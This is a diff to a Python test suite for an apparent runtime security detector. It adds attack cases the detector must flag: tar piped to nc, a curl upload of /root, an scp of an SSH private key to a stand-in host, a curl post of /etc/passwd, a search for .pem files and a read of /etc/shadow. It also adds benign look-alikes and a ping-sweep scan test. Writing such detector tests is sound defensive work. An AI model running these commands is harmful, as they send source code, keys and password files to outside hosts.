@@ -282,6 +282,13 @@ def sh(script: str) -> list[str]:
          "exfil.secrets-to-network", "high"),
         (["node", "-e", f"fetch('http://{H}/',{{method:'POST',body:JSON.stringify(process.env)}})"],
          "exfil.secrets-to-network", "high"),
+        (sh(f"tar czf - /home/code/project | nc {H} 9000"), "exfil.secrets-to-network",
+         "high"),
+        (sh(f"tar cz /root | curl -T - http://{H}/up"), "exfil.secrets-to-network", "high"),
+        (["scp", "/root/.ssh/id_ed25519", f"u@{H}:/tmp/"], "exfil.secrets-to-network", "high"),
+        (["curl", "-F", "f=@/etc/passwd", f"http://{H}/u"], "exfil.secrets-to-network", "high"),
+        (["find", "/", "-name", "*.pem"], "cred.secret-search", "warning"),
+        (["cat", "/etc/shadow"], "cred.cloud-file", "warning"),
         (["xmrig", "-o", "pool.example:3333"], "proc.miner", "critical"),
         (["./kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "x"], "proc.miner",
          "critical"),
@@ -325,6 +332,10 @@ def test_attack_variants(argv: list[str], rule: str, level: str) -> None:
         ["node", "-e", "console.log(process.env.HOME)"],
         ["curl", "-T", "dist/app.tgz", "http://10.199.0.1:8080/upload"],
         ["mkfifo", "/tmp/build.fifo"],
+        sh("tar czf - src | ssh deploy@build.example 'tar xzf - -C /srv'"),
+        sh("tar cf - node_modules | (cd /tmp/copy && tar xf -)"),
+        sh("cat /etc/passwd | grep code"),
+        ["scp", "dist/app.tgz", "deploy@build.example:/srv/"],
         sh("mkfifo /tmp/f; (cat /tmp/f | gzip > out.gz) & seq 100 > /tmp/f; wait"),
     ],
 )
@@ -431,3 +442,11 @@ def test_pipeline_correlation_in_any_exec_order() -> None:
         recent.append((i * 0.01, pid, 10, argv, "pipe:[9]", "/dev/null"))
         found += correlate_pipeline(recent, pid, 10, i * 0.01)
     assert found == []
+
+
+def test_ping_sweep_is_a_scan() -> None:
+    watch = rules.ScanWatch()
+    found = []
+    for i in range(25):
+        found += watch.feed(rules.Packet("10.199.0.9", f"192.0.2.{i}", "icmp", 0, 0), i * 0.05)
+    assert found and found[0].rule_id == "net.port-scan"
